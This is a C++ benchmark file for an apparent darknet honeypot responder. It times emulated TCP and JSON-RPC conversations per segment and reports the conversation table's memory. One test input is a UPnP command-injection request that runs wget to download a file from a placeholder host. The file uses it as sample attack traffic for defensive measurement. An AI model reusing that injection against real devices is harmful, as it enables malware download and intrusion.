// What an emulated conversation costs the responder, no I/O: for N connections from N sources
// (each with its SYN answered and its handshake completed beforehand), the first request
// (the conversation table's entry made, the JSON-RPC call read and answered), a second request
// on the same connection (keep-alive: a table lookup, a parse, an answer), the second request
// again as a client sends it whose answer was lost (the answer made anew), and the close; and,
// for comparison, the first payload without --emulate (acknowledged and closed, no state);
// then a request as a tap reads it (--emulate without --respond), answered and read only.
// Also the table's memory at the default sizes.
//
//   build/test/conversation_bench [--conversations N]   (default 2000: half the table's slots)
//
// Figures in TSC cycles per segment, the best of five runs; BENCHMARKS.md, "What emulated
// conversations cost".

#include <rte_cycles.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "../unit/frame_builder.hpp"
#include "converse/emulator.hpp"
#include "converse/responder.hpp"
#include "packet/parser.hpp"

using namespace scanscope;
using namespace scanscope::test;

namespace {

constexpr uint32_t darknet = 0xC6130005;  // 198.19.0.5
constexpr uint64_t t0 = 1700000000ULL * 1000000000ULL;

bytes segment(uint32_t src, const tcp_fields& t, const std::string& payload = {}) {
  ipv4_fields ip;
  ip.src = src;
  ip.dst = darknet;
  return ethernet(0x0800) + ipv4(ip, tcp(t, bytes(payload.begin(), payload.end())));
}

std::string rpc(const char* method) {
  const std::string body =
      std::string(R"({"jsonrpc":"2.0","id":1,"method":")") + method + R"(","params":[]})";
  return "POST / HTTP/1.1\r\nHost: 198.19.0.5:8545\r\nUser-Agent: Go-http-client/1.1\r\n"
         "Content-Type: application/json\r\nContent-Length: " +
         std::to_string(body.size()) + "\r\n\r\n" + body;
}

struct bed {
  prefix_set monitored;
  prefix_set allow;
  syn_cookies cookies{1, 2};
  emulation_plan plan;
  responder_config config;
  conversation_counters counts{1};
  answer_queue out;

  explicit bed(bool emulate) {
    monitored.add_list("198.19.0.0/24");
    allow.add_list("198.18.0.0/15");
    config.monitored = &monitored;
    config.allow = &allow;
    config.ports.set();
    config.rate = 1e9;
    config.burst = 1u << 30;
    config.source_rate = 1e9;
    config.source_burst = 1000;
    config.cookies = &cookies;
    plan_emulation(emulate ? "all" : "none", {}, plan);
    config.emulation = &plan;
  }
};

/** One connection's frames, parsed once. */
struct connection {
  uint32_t source = 0; /**< its address, also its hash for the per-source caps */
  bytes first, second, fin;
  decoded_packet p_first, p_second, p_fin;
};

double tsc_ghz() {
  const auto start = std::chrono::steady_clock::now();
  const uint64_t c0 = rte_rdtsc();
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  const uint64_t c1 = rte_rdtsc();
  const double ns =
      std::chrono::duration<double, std::nano>(std::chrono::steady_clock::now() - start).count();
  return static_cast<double>(c1 - c0) / ns;
}

/** Handshakes for `n` connections on `r`; their request frames. */
std::vector<connection> open_connections(responder& r, bed& b, uint32_t n) {
  std::vector<connection> out(n);
  const std::string request = rpc("eth_accounts");
  for (uint32_t i = 0; i < n; ++i) {
    const uint32_t source = 0xC6120000 + i;  // 198.18.x.y
    tcp_fields syn;
    syn.src_port = static_cast<uint16_t>(40000 + i % 20000);
    syn.seq = 1000;
    syn.flags = 0x02;
    const bytes s = segment(source, syn);
    decoded_packet p;
    parse_frame(s.data(), s.size(), p);
    b.out.clear();
    r.handle(s.data(), p, t0, source, 0, b.out, b.counts);
    decoded_packet answer;
    parse_frame(b.out.frames[0], b.out.lengths[0], answer);
    tcp_fields data = syn;
    data.flags = 0x18;
    data.seq = 1001;
    data.ack = answer.seq + 1;
    connection& c = out[i];
    c.source = source;
    c.first = segment(source, data, request);
    parse_frame(c.first.data(), c.first.size(), c.p_first);
    // The answer's length is known after the first request is answered: the second request
    // and the FIN are made then (prepare_rest).
  }
  b.out.clear();
  return out;
}

/** The second request and the FIN of a connection, after its first answer of `answered`. */
void prepare_rest(connection& c, uint32_t answered) {
  tcp_fields t;
  t.src_port = c.p_first.src_port;
  t.dst_port = c.p_first.dst_port;
  t.flags = 0x18;
  t.seq = c.p_first.seq + c.p_first.payload_length;
  t.ack = c.p_first.ack + answered;
  const uint32_t source = c.source;
  const std::string request = rpc("eth_blockNumber");
  c.second = segment(source, t, request);
  parse_frame(c.second.data(), c.second.size(), c.p_second);
  t.flags = 0x11;
  t.seq += static_cast<uint32_t>(request.size());
  c.fin = segment(source, t);
  parse_frame(c.fin.data(), c.fin.size(), c.p_fin);
}

/** Cycles per call of `step` over every connection. */
template <class Step>
double cycles_per(std::vector<connection>& conns, Step step) {
  const uint64_t start = rte_rdtsc();
  for (connection& c : conns) {
    step(c);
  }
  return static_cast<double>(rte_rdtsc() - start) / static_cast<double>(conns.size());
}

/** Cycles per request of emulate_request() over `request`, answered or read only (as a tap
 *  or a capture reads requests with --emulate and no --respond); the best of five runs. */
double request_cycles(const emulation_plan& plan, emulated_protocol protocol,
                      const std::string& request, bool read_only) {
  static uint8_t answer[max_answer_data];
  emulation_context context{&plan, t0, 42, 0};
  context.read_only = read_only;
  double best = 1e18;
  for (int run = 0; run < 5; ++run) {
    constexpr int n = 20000;
    const uint64_t start = rte_rdtsc();
    for (int i = 0; i < n; ++i) {
      const emulation_turn turn =
          emulate_request(protocol, context, reinterpret_cast<const uint8_t*>(request.data()),
                          request.size(), answer);
      if (turn.consumed != request.size()) {
        std::abort();  // the request is not what the bench means to time
      }
    }
    best = std::min(best, static_cast<double>(rte_rdtsc() - start) / n);
  }
  return best;
}

/** The requests a tap reads as they pass: answered (what the responder does) and read only. */
void print_read_only_rows() {
  emulation_plan plan;
  plan_emulation("all", {}, plan);
  const std::string upnp =
      "POST /picsdesc.xml HTTP/1.1\r\nContent-Length: 40\r\n\r\n"
      "`cd /var; wget http://192.0.2.66/m -O m`";
  const std::pair<const char*, std::pair<emulated_protocol, std::string>> rows[] = {
      {"eth_accounts", {emulated_protocol::ethereum, rpc("eth_accounts")}},
      {"a UPnP exploit on the web server", {emulated_protocol::http, upnp}}};
  std::printf("  %-58s %10s %10s\n", "request read as it passes (no --respond)", "answered",
              "read only");
  for (const auto& [name, what] : rows) {
    std::printf("  %-58s %10.0f %10.0f\n", name,
                request_cycles(plan, what.first, what.second, false),
                request_cycles(plan, what.first, what.second, true));
  }
}

}  // namespace

int main(int argc, char** argv) {
  uint32_t n = 2000;
  for (int i = 1; i + 1 < argc; i += 2) {
    if (std::strcmp(argv[i], "--conversations") == 0) {
      n = static_cast<uint32_t>(std::strtoul(argv[i + 1], nullptr, 10));
    }
  }
  const double ghz = tsc_ghz();
  double first = 1e18, second = 1e18, resent = 1e18, close = 1e18, stateless = 1e18;
  size_t memory = 0;
  uint64_t requests = 0;
  uint64_t refused = 0;
  for (int run = 0; run < 5; ++run) {
    bed emulating(true);
    responder r(emulating.config);
    std::vector<connection> conns = open_connections(r, emulating, n);
    std::vector<uint32_t> answered(conns.size());
    size_t at = 0;
    first = std::min(
        first, cycles_per(conns, [&](connection& c) {
          r.handle(c.first.data(), c.p_first, t0 + 1, c.source, 0, emulating.out, emulating.counts);
          for (unsigned k = 0; k < emulating.out.count; ++k) {
            answered[at] += emulating.out.lengths[k] - 54u;  // Ethernet, IPv4, TCP headers
          }
          ++at;
          emulating.out.clear();
        }));
    for (size_t i = 0; i < conns.size(); ++i) {
      prepare_rest(conns[i], answered[i]);
    }
    second = std::min(second, cycles_per(conns, [&](connection& c) {
                        r.handle(c.second.data(), c.p_second, t0 + 2, c.source, 0, emulating.out,
                                 emulating.counts);
                        emulating.out.clear();
                      }));
    // The second request again, as its client sends it when the answer was lost: the answer
    // made anew.
    resent = std::min(resent, cycles_per(conns, [&](connection& c) {
                        r.handle(c.second.data(), c.p_second, t0 + 3, c.source, 0, emulating.out,
                                 emulating.counts);
                        emulating.out.clear();
                      }));
    close = std::min(close, cycles_per(conns, [&](connection& c) {
                       r.handle(c.fin.data(), c.p_fin, t0 + 4, c.source, 0, emulating.out,
                                emulating.counts);
                       emulating.out.clear();
                     }));
    requests =
        emulating.counts.scalars[static_cast<size_t>(conversation_counter::emulation_requests)]
            .read();
    // A connection whose set was full is refused at each of its three data segments.
    refused =
        emulating.counts.scalars[static_cast<size_t>(conversation_counter::emulation_table_full)]
            .read() /
        3;
    memory = conversation_table(4096, 256, 1024, 16, 1).memory_bytes();

    bed plain(false);
    responder s(plain.config);
    std::vector<connection> closing = open_connections(s, plain, n);
    stateless = std::min(stateless, cycles_per(closing, [&](connection& c) {
                           s.handle(c.first.data(), c.p_first, t0 + 1, c.source, 0, plain.out,
                                    plain.counts);
                           plain.out.clear();
                         }));
  }
  std::printf("emulated conversations, %u connections, TSC %.2f GHz, best of 5 runs\n", n, ghz);
  std::printf("  %-58s %10s\n", "segment", "cycles");
  std::printf("  %-58s %10.0f\n", "first request, no --emulate (ACK and close, no state)",
              stateless);
  std::printf("  %-58s %10.0f\n", "first request, --emulate (entry made, eth_accounts answered)",
              first);
  std::printf("  %-58s %10.0f\n", "second request on the connection (eth_blockNumber)", second);
  std::printf("  %-58s %10.0f\n", "second request again, its answer lost (made anew)", resent);
  std::printf("  %-58s %10.0f\n", "client's FIN (FIN-ACK, entry closing)", close);
  print_read_only_rows();
  std::printf(
      "  requests answered in the last run: %llu of %u (%llu connections found their "
      "set full)\n",
      static_cast<unsigned long long>(requests), 2 * n, static_cast<unsigned long long>(refused));
  std::printf(
      "  conversation table at the defaults (4096 slots, 256 buffers, 1024 states): "
      "%.2f MiB per RX lcore\n",
      static_cast<double>(memory) / (1024.0 * 1024.0));
  return requests + 2 * refused == 2ULL * n ? 0 : 1;
}
